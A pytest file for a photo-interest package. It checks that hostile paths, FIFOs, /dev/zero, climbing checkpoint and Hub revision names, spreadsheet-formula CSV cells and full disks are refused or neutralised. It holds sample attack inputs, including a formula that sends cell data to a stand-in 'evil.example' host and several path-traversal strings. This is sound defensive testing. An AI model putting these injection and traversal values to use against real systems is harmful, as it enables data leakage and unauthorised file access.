"""Hostile paths, names, spreadsheet cells and full disks: each a clean refusal, a per-photo reason or one line.

The data a collection or a bundle carries was written by someone else:
``photos.path`` may be absolute, climb out, be a FIFO or ``/dev/zero``; a
bundle part may be a FIFO; a backbone id may name a checkpoint by a path; a
Hub name may carry a revision that climbs; an id may be a spreadsheet
formula. And a disk may fill in the middle of a run. Every probe runs the real
command in a subprocess with a timeout, so a regression that hangs fails
instead of stalling the suite, and returns its row of the "Hostile inputs:
paths, names, spreadsheets and full disks" table in BENCHMARKS.md, which
``test_the_benchmarks_table_is_current`` keeps in step with what the code does.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from apps_helpers import assert_benchmarks_rows, train_tiny_bundle
from PIL import Image

from interest.core.collection import read_table, write_table

REPO = Path(__file__).resolve().parents[1]
TABLE_HEADING = "## Hostile inputs: paths, names, spreadsheets and full disks"
TIMEOUT_S = 180  # a command that hangs fails the probe; a clean run takes seconds (most of it importing torch)


def _cli(*args: str, timeout: float = TIMEOUT_S, env: dict | None = None) -> subprocess.CompletedProcess:
    """``interest ARGS`` in a subprocess (the console entry point, so errors are printed as users see them)."""
    try:
        return subprocess.run([sys.executable, "-c", "from interest.cli import main; main()", *args], cwd=REPO,
                              capture_output=True, text=True, timeout=timeout, env={**os.environ, **(env or {})})
    except subprocess.TimeoutExpired:
        pytest.fail(f"`interest {' '.join(args)}` hung for {timeout} s")


def _python(code: str, timeout: float = TIMEOUT_S, env: dict | None = None) -> dict:
    """Run ``code`` in a subprocess; it prints one JSON object as its last line."""
    try:
        proc = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], cwd=REPO, capture_output=True, text=True,
                              timeout=timeout, env={**os.environ, **(env or {})})
    except subprocess.TimeoutExpired:
        pytest.fail(f"hung for {timeout} s:\n{code}")
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


def _one_line_error(proc: subprocess.CompletedProcess, code: int = 2) -> str:
    """The single stderr line of a refused command (exit ``code``), without its ``error: `` prefix."""
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert proc.returncode == code and len(lines) == 1 and lines[0].startswith("error: "), (proc.returncode, proc.stderr)
    return lines[0][len("error: "):]


def _jpeg(path: Path, colour=(250, 0, 250), size=(48, 32)) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, colour).save(path, "JPEG")
    return path


def _hostile_paths(root: Path, outside: Path) -> dict[str, str]:
    """{what: photos.path} for a collection at ``root``: every way out of it, a FIFO, ``/dev/zero``."""
    (root / "images").mkdir(parents=True, exist_ok=True)
    os.mkfifo(root / "images" / "fifo.jpg")
    (root / "images" / "link.jpg").symlink_to(outside)
    return {
        "absolute": str(outside),
        "climbing": os.path.relpath(outside, root),
        "fifo": "images/fifo.jpg",
        "dev-zero": "/dev/zero",
        "link-out": "images/link.jpg",
    }


@pytest.fixture(scope="module")
def bundle(tmp_path_factory) -> Path:
    return train_tiny_bundle(tmp_path_factory.mktemp("hostile_paths"))


# ------------------------------------------------------------------ the probes


def probe_embed_paths(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    root = tmp / "deep" / "col"
    outside = _jpeg(tmp / "private.jpg")
    hostile = _hostile_paths(root, outside)
    _jpeg(root / "images" / "ok.jpg", (10, 200, 30))
    photos = pd.DataFrame({"photo_id": ["ok", *hostile], "path": ["images/ok.jpg", *hostile.values()]})
    write_table(root, "photos", photos)
    proc = _cli("embed", str(root), "--backbone", "perceptual/v1", "--workers", "0", "--no-progress")
    assert proc.returncode == 0, proc.stderr
    got = read_table(root, "photos").set_index("photo_id")
    reasons = {pid: got.loc[pid, "status_reason"] for pid in hostile}
    assert reasons == {"absolute": "path_outside", "climbing": "path_outside", "fifo": "not_a_file",
                       "dev-zero": "path_outside", "link-out": "path_outside"}
    assert got.loc["ok", "status"] == "ok" and got.loc["absolute", "status"] == "bad_image"
    emb = pq.read_table(root / "features" / "perceptual" / "v1" / "embeddings.parquet").to_pandas()
    assert emb["photo_id"].tolist() == ["ok"]
    return ("`photos.path` absolute, climbing (`../../private.jpg`), a link out, `/dev/zero`, a FIFO; then `interest embed`",
            "each photo gets status bad_image with reason `path_outside` (a FIFO inside: `not_a_file`), none is opened; the good photo is embedded")


def probe_report_paths(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    from test_analyze import make_collection

    root = make_collection(tmp / "deep" / "col")
    outside = _jpeg(tmp / "private.png")
    hostile = list(_hostile_paths(root, outside).values())
    photos = read_table(root, "photos")
    photos["path"] = [hostile[i % len(hostile)] for i in range(len(photos))]
    write_table(root, "photos", photos)
    proc = _cli("report", str(root), "--out", str(tmp / "r.html"), "--n-boot", "20", "--no-progress")
    assert proc.returncode == 0, proc.stderr
    text = (tmp / "r.html").read_text(encoding="utf-8")
    # no thumbnail: the photos section says so instead of showing the outside picture
    assert "None of the image files could be read." in text and "CI photos of the collection" not in text
    return ("`photos.path` = `/home/x/private.png`, `../../private.png`, a link out, `/dev/zero`, a FIFO; then `interest report`",
            "the report is written without those thumbnails (\"None of the image files could be read.\"); no outside picture is embedded, nothing hangs")


def probe_bundle_fifo(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    model = tmp / "model"
    shutil.copytree(bundle, model)
    (model / "model.json").unlink()
    os.mkfifo(model / "model.json")
    emb = tmp / "e.parquet"
    shutil.copy(bundle.parent / "world" / "features" / "synthetic" / "d16" / "embeddings.parquet", emb)
    score = _one_line_error(_cli("score", str(model), str(emb)))
    export = _one_line_error(_cli("export-hub", str(model), str(tmp / "hub")))
    assert score == export == f"{model / 'model.json'}: not a regular file (a device, pipe or socket); restore the bundle"
    assert not (tmp / "hub").exists()
    return ("`model.json` a FIFO, then `interest score` and `interest export-hub`",
            "refused: `MODEL/model.json: not a regular file (a device, pipe or socket); restore the bundle` (exit 2, at once)")


def probe_checkpoint_names(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    folder, outside = tmp / "checkpoints", tmp / "outside"
    folder.mkdir()
    outside.mkdir()
    (outside / "evil.pt").write_bytes(b"not a checkpoint, and not to be read")
    (folder / "link.pt").symlink_to(outside / "evil.pt")
    os.mkfifo(folder / "fifo.pt")
    ids = {"absolute": f"openclip/ViT-B-32/{outside}/evil", "climbing": "openclip/ViT-B-32/../outside/evil",
           "link-out": "openclip/ViT-B-32/link", "fifo": "openclip/ViT-B-32/fifo"}
    got = _python(f"""
        import json
        from interest.core.errors import InterestError
        from interest.imaging.backbones import load_backbone
        out = {{}}
        for what, backbone_id in {ids!r}.items():
            try:
                load_backbone(backbone_id)
                out[what] = "loaded"
            except InterestError as exc:
                out[what] = str(exc)
        print(json.dumps(out))
    """, env={"INTEREST_CHECKPOINTS": str(folder), "HF_HUB_OFFLINE": "1"})
    assert got["absolute"] == (f"backbone '{ids['absolute']}': checkpoint name '{outside}/evil' is an absolute path; a "
                               "checkpoint is named by its file stem, found in --cache-dir or the folders of $INTEREST_CHECKPOINTS")
    assert "checkpoint name '../outside/evil' is a path that climbs out (..)" in got["climbing"]
    assert got["link-out"] == f"{folder / 'link.pt'}: outside {folder}; refusing to open it; a checkpoint is a regular file inside its folder"
    assert got["fifo"] == f"{folder / 'fifo.pt'}: not a regular file (a device, pipe or socket); a checkpoint is a regular file inside its folder"
    return ("a bundle's `backbone.id` naming its checkpoint `openclip/ViT-B-32//srv/outside/evil`, `…/../outside/evil`, "
            "a link out of `$INTEREST_CHECKPOINTS`, a FIFO there",
            "refused in one line: \"checkpoint name '/srv/outside/evil' is an absolute path\" (\"… a path that climbs out (..)\"; "
            "the link: \"outside FOLDER\"; the FIFO: \"not a regular file\"); nothing outside is opened or hashed")


def probe_hub_revision(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    got = _python("""
        import json
        import interest
        from interest.core.errors import InterestError
        out = {}
        for name in ("hf-hub:ORG/NAME@../../x", "hf-hub:ORG/NAME@/etc", "hf-hub:ORG/NAME@a/../../x"):
            try:
                interest.load(name)
                out[name] = "loaded"
            except InterestError as exc:
                out[name] = str(exc)
        print(json.dumps(out))
    """, env={"HF_HUB_OFFLINE": "1", "HF_HOME": str(tmp / "hf")})
    tail = "; write hf-hub:ORG/NAME@REVISION with a branch, tag or commit"
    assert got == {"hf-hub:ORG/NAME@../../x": "hf-hub:ORG/NAME@../../x: the revision '../../x' climbs out (..)" + tail,
                   "hf-hub:ORG/NAME@/etc": "hf-hub:ORG/NAME@/etc: the revision '/etc' starts with /" + tail,
                   "hf-hub:ORG/NAME@a/../../x": "hf-hub:ORG/NAME@a/../../x: the revision 'a/../../x' climbs out (..)" + tail}
    assert not (tmp / "hf").exists()  # refused before huggingface_hub made a path of it
    return ("`hf-hub:ORG/NAME@../../x`, `…@/etc`, `…@a/../../x`",
            "refused before huggingface_hub sees it: \"the revision '../../x' climbs out (..)\" (\"… starts with /\")")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]


def probe_csv_cells(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    emb = pq.read_table(bundle.parent / "world" / "features" / "synthetic" / "d16" / "embeddings.parquet").to_pandas()
    emb = emb.head(len(FORMULAS) + 2).copy()
    emb["photo_id"] = [*FORMULAS, "plain", "12345"]
    (tmp / "features" / "synthetic" / "d16").mkdir(parents=True)
    table = tmp / "features" / "synthetic" / "d16" / "embeddings.parquet"
    emb.to_parquet(table, index=False)
    import interest

    user = interest.load(bundle).users[0]  # a user's deviation from the common score: negative numbers
    proc = _cli("score", str(bundle), str(table), "--out", str(tmp / "o.csv"), "--user", user)
    assert proc.returncode == 0, proc.stderr
    written = pd.read_csv(tmp / "o.csv", dtype={"photo_id": str}, keep_default_na=False)
    assert written["photo_id"].tolist() == ["'" + f for f in FORMULAS] + ["plain", "12345"]
    numeric = [c for c in written.columns if c != "photo_id"]
    assert "ci_score" in numeric and all(pd.api.types.is_numeric_dtype(written[c]) for c in numeric), written.dtypes
    # a cell with a carriage return inside is quoted, so it cannot start a row of its own
    assert (tmp / "o.csv").read_bytes().count(b"\r\n") == len(written) + 1
    return ("`photo_id` (or an image name) `=HYPERLINK(\"…\")`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, a leading tab or CR; then `interest score … --out o.csv`",
            "each such text cell is written with a leading `'` (OWASP) and lines end in CRLF, so a CR inside a cell is "
            "quoted; numeric columns (negatives too) stay numbers; every CSV the package writes goes through one writer")


def _mount_tmpfs(where: Path, size: str) -> bool:
    where.mkdir(parents=True, exist_ok=True)
    if shutil.which("mount") is None:
        return False
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
                          capture_output=True).returncode == 0


def _fill(folder: Path, leave: int) -> Path:
    """Fill the file system of ``folder`` but ``leave`` bytes: a filler file, removed to free the space."""
    filler = folder / "filler"
    free = shutil.disk_usage(folder).free
    with open(filler, "wb") as f:
        f.truncate(0)
        f.write(b"\0" * max(0, free - leave))
    return filler


def probe_full_disk(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    disk = tmp / "disk"
    if not _mount_tmpfs(disk, "4m"):
        pytest.skip("cannot mount a small tmpfs here (needs root): the full-disk probe is skipped")
    try:
        root = disk / "col"
        for i in range(40):
            _jpeg(root / "images" / f"{i}.jpg", (i * 6, 255 - i * 6, 90), (40, 30))
        write_table(root, "photos", pd.DataFrame({"photo_id": [str(i) for i in range(40)],
                                                  "path": [f"images/{i}.jpg" for i in range(40)]}))
        photos_before = (root / "photos.parquet").read_bytes()
        filler = _fill(disk, 2048)
        args = ("embed", str(root), "--backbone", "perceptual/v1", "--workers", "0", "--no-progress", "--part-size", "8")
        line = _one_line_error(_cli(*args), code=1)
        assert "No space left on device; free space, then run the same command again" in line, line
        assert (root / "photos.parquet").read_bytes() == photos_before  # what was there stays readable
        assert not [p for p in root.rglob(".*.tmp")]  # no half-written temporary left to fill the disk further
        filler.unlink()
        proc = _cli(*args)
        assert proc.returncode == 0, proc.stderr
        again = pq.read_table(root / "features" / "perceptual" / "v1" / "embeddings.parquet").to_pandas()
    finally:
        subprocess.run(["umount", str(disk)], check=False)
    assert again["photo_id"].tolist() == [str(i) for i in range(40)]
    return ("the disk fills during `interest embed` (a 4 MB tmpfs filled but 2 kB)",
            f"one line, exit 1: `{line.replace(str(root), 'COL')}`; photos.parquet unchanged, no temporary left; "
            "after freeing space the same command completes")


def probe_full_disk_collect(tmp: Path, bundle: Path, world: Path) -> tuple[str, str]:
    from interest.synthetic.server import serve_world

    reference = tmp / "reference"
    disk = tmp / "disk"
    if not _mount_tmpfs(disk, "16m"):
        pytest.skip("cannot mount a small tmpfs here (needs root): the full-disk probe is skipped")
    seeds = ",".join(sorted(read_table(world, "users")["user_id"]))
    env = {"FLICKR_API_KEY": "disk-key"}
    try:
        with serve_world(world, api_key="disk-key") as srv:
            def crawl(out: Path, *extra: str) -> subprocess.CompletedProcess:
                return _cli("collect", str(out), "--users", seeds, "--rest-url", srv.rest_url, "--image-host",
                            srv.image_host, "--rate", "0", "--enrich", "none", "--threads", "2", "--no-progress",
                            *extra, env=env)

            assert crawl(reference).returncode == 0
            out = disk / "col"
            filler = _fill(disk, 6_000_000)  # room for the crawl state (its WAL grows to 4 MB) and some images
            line = _one_line_error(crawl(out), code=1)
            saved = len(list((out / "images").glob("*.jpg")))
            filler.unlink()
            resumed = crawl(out, "--resume")
            assert resumed.returncode == 0, resumed.stderr
            got, want = read_table(out, "favorites"), read_table(reference, "favorites")
            photos = read_table(out, "photos")
    finally:
        subprocess.run(["umount", str(disk)], check=False)
    assert "No space left on device; free space, then run it again with --resume" in line, line
    assert 0 < saved and len(got) == len(want), (line, saved, len(got), len(want))
    keys = ["user_id", "photo_id"]
    assert got.sort_values(keys)[keys].reset_index(drop=True).equals(want.sort_values(keys)[keys].reset_index(drop=True))
    assert (photos["status"] == "ok").sum() == (read_table(reference, "photos")["status"] == "ok").sum()
    return ("the disk fills during `interest collect` (a 16 MB tmpfs filled but 6 MB: the crawl state fits, the images do not)",
            "one line, exit 1: `…: No space left on device; free space, then run it again with --resume (what was "
            "already written is kept and reused)`; after freeing space `--resume` ends with the same favourites and "
            "images as a crawl on a roomy disk")


PROBES = [probe_embed_paths, probe_report_paths, probe_bundle_fifo, probe_checkpoint_names, probe_hub_revision,
          probe_csv_cells, probe_full_disk, probe_full_disk_collect]


@pytest.fixture(scope="module")
def probe_rows(bundle, rendered_world, tmp_path_factory):
    rows = {}
    for probe in PROBES:
        try:
            rows[probe.__name__] = probe(tmp_path_factory.mktemp(probe.__name__), bundle, rendered_world)
        except pytest.skip.Exception:
            continue
    return rows


@pytest.mark.parametrize("name", [p.__name__ for p in PROBES])
def test_every_probe_ends_cleanly(probe_rows, name):
    if name not in probe_rows:
        pytest.skip(f"{name} needs what this machine lacks")
    sent, outcome = probe_rows[name]
    assert sent and outcome


def test_the_benchmarks_table_is_current(probe_rows):
    assert_benchmarks_rows(TABLE_HEADING, list(probe_rows.values()), "hostile paths")


def test_every_csv_goes_through_the_spreadsheet_safe_writer():
    """One writer for every CSV: a new ``to_csv`` elsewhere would bypass the formula guard."""
    writers = sorted(str(p.relative_to(REPO)) for p in (REPO / "interest").rglob("*.py") if ".to_csv(" in p.read_text())
    assert writers == ["interest/core/collection.py"]


def test_analysis_tables_neutralise_formulas_in_index_and_cells(tmp_path):
    from interest.stages.analyze.analysis import write_tables

    table = pd.DataFrame({"note": ["=1+1", "fine\r=2+2"], "delta": [-0.25, 0.5]},
                         index=pd.Index(["@user", "b"], name="user"))
    write_tables({"t": table}, tmp_path)
    back = pd.read_csv(tmp_path / "t.csv", index_col=0)
    assert back.index.tolist() == ["'@user", "b"] and back["note"].tolist() == ["'=1+1", "fine\r=2+2"]
    # negative numbers stay numbers: only text cells are neutralised
    assert pd.api.types.is_float_dtype(back["delta"]) and back["delta"].tolist() == [-0.25, 0.5]
